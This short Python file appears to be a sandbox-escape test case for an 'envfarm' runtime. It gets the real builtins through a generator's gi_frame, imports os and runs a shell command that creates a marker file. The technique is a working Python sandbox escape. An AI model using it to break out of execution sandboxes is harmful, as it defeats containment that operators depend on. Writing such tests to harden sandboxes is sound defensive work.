# ruff: noqa
"""Escape: A generator's gi_frame and its builtins."""

from envfarm.servers.runtime.database import Database


def escape(db: Database, marker: str, amount: float = 0.0) -> dict:
    gen = (x for x in [1])
    builtins = gen.gi_frame.f_builtins
    builtins["__import__"]("os").system(f"touch {marker}")
    return {"escaped": True}
